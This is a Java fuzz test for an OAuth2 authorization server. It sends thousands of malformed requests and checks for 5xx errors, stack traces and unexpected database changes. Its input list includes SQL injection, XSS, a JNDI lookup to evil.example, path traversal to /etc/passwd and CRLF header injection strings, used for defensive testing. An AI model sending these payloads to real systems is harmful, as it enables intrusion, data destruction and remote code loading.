package dev.tollgate.auth.badinput;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;

import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;

import dev.tollgate.auth.support.AuthServerTest;

/**
 * Thousands of generated malformed requests (fixed seed, so every run sends the same ones) over every endpoint:
 * wrong methods, oversized and truncated bodies, bad encodings, injection strings in every parameter, duplicated
 * and missing parameters, broken credentials. None may answer 5xx or show a stack trace, and none may change the
 * database beyond counting failed sign-ins.
 */
@AuthServerTest
class MalformedRequestsTest {

    private static final long SEED = 20_261_127L;
    private static final int REQUESTS = 3_000;

    private static final List<String> PATHS = List.of("/oauth2/authorize", "/oauth2/token", "/oauth2/introspect",
            "/oauth2/revoke", "/oauth2/jwks", "/userinfo", "/connect/logout", "/login", "/logout", "/oauth2/consent",
            "/.well-known/openid-configuration", "/.well-known/oauth-authorization-server", "/error",
            "/actuator/health", "/oauth2/device_authorization", "/oauth2/device_verification", "/oauth2/par",
            "/connect/register", "/", "/css/tollgate.css", "/oauth2/token/../jwks", "/%2e%2e/oauth2/token");
    private static final List<String> METHODS = List.of("GET", "POST", "POST", "POST", "PUT", "DELETE", "PATCH",
            "OPTIONS", "HEAD", "TRACE");
    private static final List<String> PARAMETERS = List.of("response_type", "client_id", "redirect_uri", "scope",
            "state", "nonce", "code_challenge", "code_challenge_method", "grant_type", "code", "code_verifier",
            "refresh_token", "token", "token_type_hint", "client_secret", "client_assertion", "client_assertion_type",
            "username", "password", "_csrf", "id_token_hint", "post_logout_redirect_uri", "prompt", "request",
            "request_uri", "resource", "audience", "subject_token", "device_code", "user_code");
    private static final List<String> PLAUSIBLE = List.of("code", "demo-web", "demo-cli", "demo-service",
            "authorization_code", "client_credentials", "refresh_token", "openid profile books.read", "S256", "plain",
            "http://localhost:8081/login/oauth2/code/tollgate", "http://127.0.0.1:1234/callback", "alice",
            "wrong-password", "urn:ietf:params:oauth:client-assertion-type:jwt-bearer", "none", "consent",
            "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.", "eyJ0eXAiOiJKV1QifQ.e30.c2ln");
    private static final Set<String> EXPECTED_TO_CHANGE = Set.of("login_failure", "spring_session",
            "spring_session_attributes", "rate_limit_bucket", "security_event");
    /**
     * Outboxes whose rows earlier tests left behind: their delivery threads send, retry and delete those rows while
     * this test runs, so only their ids are compared, and only for rows added (a malformed request must enqueue no
     * mail and no logout token).
     */
    private static final Set<String> DRAINED_IN_THE_BACKGROUND = Set.of("mail_outbox", "backchannel_logout_outbox");

    private static final List<String> NASTY = List.of("' OR '1'='1", "'; DROP TABLE users; --", "\" OR \"\"=\"",
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "${jndi:ldap://evil.example/a}",
            "#{7*7}", "{{7*7}}", "${7*7}", "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%00", "%",
            "%zz", "%C3%28", "%FF%FE", "%E2%82", "\u0000", "\r\nSet-Cookie: x=y", "%0d%0aLocation: http://evil",
            "javascript:alert(1)", "http://evil.example", "//evil.example", "[]", "{}", "{\"a\":", "null",
            "-1", "99999999999999999999999", "NaN", "\u202e\u0645\u0631\u062d\u0628\u0627", "\uD83D\uDD11",
            "a".repeat(5_000), "%", "+++", "&&&", "===", " ", "", "\\", "\t", "*", "openid openid openid");

    @LocalServerPort
    int port;

    @Autowired
    JdbcClient database;

    @Test
    void thousandsOfMalformedRequestsGetNo5xxNoStackTraceAndChangeNoData() throws Exception {
        Map<String, List<String>> before = snapshot();
        Random random = new Random(SEED);
        List<String> failures = new ArrayList<>();
        for (int i = 0; i < REQUESTS && failures.size() < 5; i++) {
            byte[] request = malformedRequest(random);
            String response = send(request);
            String status = response.length() >= 12 ? response.substring(9, 12) : "";
            if (status.startsWith("5") || showsAStackTrace(response)) {
                failures.add("request " + i + ":\n" + new String(request, StandardCharsets.ISO_8859_1)
                        .lines().limit(12).reduce("", (a, b) -> a + b + "\n") + "-> " + response.lines().findFirst()
                        .orElse("(no answer)"));
            }
        }
        assertThat(failures).isEmpty();
        Map<String, List<String>> after = snapshot();
        for (String outbox : DRAINED_IN_THE_BACKGROUND) {
            assertThat(after.remove(outbox)).as("rows added to " + outbox).isSubsetOf(before.remove(outbox));
        }
        assertThat(after.keySet()).isEqualTo(before.keySet());
        // table by table, so that a failure names the table instead of printing the whole database twice
        before.forEach((table, rows) -> assertThat(after.get(table)).as(table).isEqualTo(rows));
    }

    private static boolean showsAStackTrace(String response) {
        return response.contains("Exception") || response.contains("\tat ") || response.contains("at org.")
                || response.contains("at java.") || response.contains("Caused by");
    }

    private byte[] malformedRequest(Random random) {
        String method = pick(random, METHODS);
        String path = pick(random, PATHS);
        String query = random.nextInt(3) == 0 ? "" : "?" + parameters(random);
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        String contentType = null;
        switch (random.nextInt(8)) {
            case 0, 1, 2 -> {
                contentType = "application/x-www-form-urlencoded";
                body.writeBytes(parameters(random).getBytes(StandardCharsets.UTF_8));
            }
            case 3 -> {
                contentType = "application/x-www-form-urlencoded";
                byte[] full = parameters(random).getBytes(StandardCharsets.UTF_8);
                body.write(full, 0, random.nextInt(full.length + 1));
            }
            case 4 -> {
                contentType = random.nextBoolean() ? "application/json" : "application/x-www-form-urlencoded";
                body.writeBytes(("{\"grant_type\":\"" + pick(random, NASTY) + "\",\"client_id\":")
                        .getBytes(StandardCharsets.UTF_8));
            }
            case 5 -> {
                contentType = pick(random, List.of("application/x-www-form-urlencoded; charset=ISO-2022-KR",
                        "multipart/form-data; boundary=xyz", "text/plain", "application/x-www-form-urlencoded"));
                byte[] garbage = new byte[random.nextInt(2_000)];
                random.nextBytes(garbage);
                body.writeBytes(garbage);
            }
            case 6 -> {
                if (random.nextInt(10) == 0) {
                    contentType = "application/x-www-form-urlencoded";
                    body.writeBytes(("client_id=demo-web&scope=" + "x".repeat(300_000))
                            .getBytes(StandardCharsets.UTF_8));
                }
            }
            default -> {
            }
        }
        StringBuilder head = new StringBuilder(method).append(' ').append(path).append(query).append(" HTTP/1.1\r\n")
                .append("Host: localhost:").append(port).append("\r\n")
                .append("Connection: close\r\n")
                .append("Accept: ").append(pick(random, List.of("*/*", "application/json", "text/html"))).append("\r\n");
        String authorization = authorization(random);
        if (authorization != null) {
            head.append("Authorization: ").append(authorization).append("\r\n");
        }
        if (contentType != null) {
            head.append("Content-Type: ").append(contentType).append("\r\n");
        }
        if (body.size() > 0 || "POST".equals(method)) {
            head.append("Content-Length: ").append(body.size()).append("\r\n");
        }
        head.append("\r\n");
        ByteArrayOutputStream request = new ByteArrayOutputStream();
        request.writeBytes(head.toString().getBytes(StandardCharsets.UTF_8));
        request.writeBytes(body.toByteArray());
        return request.toByteArray();
    }

    /** A query or form string: random, duplicated or missing parameters with plausible and hostile values. */
    private static String parameters(Random random) {
        StringBuilder parameters = new StringBuilder();
        int count = random.nextInt(8);
        for (int i = 0; i < count; i++) {
            String name = pick(random, PARAMETERS);
            int copies = random.nextInt(5) == 0 ? 2 : 1;
            for (int copy = 0; copy < copies; copy++) {
                String value = random.nextInt(3) == 0 ? pick(random, PLAUSIBLE) : pick(random, NASTY);
                parameters.append(parameters.isEmpty() ? "" : "&").append(name).append('=')
                        .append(random.nextBoolean() ? urlEncode(value) : value.replace(" ", "+").replace("\r", "%0d")
                                .replace("\n", "%0a").replace("\u0000", "%00").replace("#", "%23"));
            }
        }
        return parameters.toString();
    }

    private static String authorization(Random random) {
        return switch (random.nextInt(8)) {
            case 0 -> "Basic " + base64("demo-service:not-its-secret");
            case 1 -> "Basic " + base64("demo-web");
            case 2 -> "Basic !!!not-base64!!!";
            case 3 -> "Basic " + base64(":" + "\u0000".repeat(3));
            case 4 -> "Bearer " + pick(random, PLAUSIBLE);
            case 5 -> "Bearer";
            case 6 -> "Digest username=\"x\"";
            default -> null;
        };
    }

    private String send(byte[] request) throws IOException {
        try (Socket socket = new Socket("localhost", port)) {
            socket.setSoTimeout(10_000);
            OutputStream out = socket.getOutputStream();
            try {
                out.write(request);
                out.flush();
                socket.shutdownOutput();
            }
            catch (IOException closedEarly) {
                // the server may refuse and close before reading an oversized body
            }
            InputStream in = socket.getInputStream();
            try {
                return new String(in.readAllBytes(), StandardCharsets.ISO_8859_1);
            }
            catch (IOException reset) {
                return "";
            }
        }
    }

    /**
     * Every row of every table, except what the suite is expected to add: failed sign-in counts, the browser
     * sessions its page requests open (sessions live in the database, Spring Session JDBC), the rate-limit buckets
     * its requests use up and the audit trail's record of its failed sign-ins.
     */
    private Map<String, List<String>> snapshot() {
        Map<String, List<String>> tables = new TreeMap<>();
        List<String> names = database.sql("SELECT table_name FROM information_schema.tables "
                        + "WHERE table_schema = 'public' AND table_type = 'BASE TABLE'")
                .query(String.class).list();
        for (String table : names) {
            if (DRAINED_IN_THE_BACKGROUND.contains(table)) {
                tables.put(table, database.sql("SELECT id FROM " + table).query(String.class).list());
            }
            else if (!EXPECTED_TO_CHANGE.contains(table)) {
                tables.put(table, database.sql("SELECT * FROM " + table)
                        .query((rs, row) -> {
                            StringBuilder line = new StringBuilder();
                            for (int column = 1; column <= rs.getMetaData().getColumnCount(); column++) {
                                line.append(rs.getString(column)).append('|');
                            }
                            return line.toString();
                        }).list().stream().sorted().toList());
            }
        }
        return tables;
    }

    private static String urlEncode(String value) {
        return java.net.URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    private static String base64(String value) {
        return Base64.getEncoder().encodeToString(value.getBytes(StandardCharsets.UTF_8));
    }

    private static <T> T pick(Random random, List<T> values) {
        return values.get(random.nextInt(values.size()));
    }
}
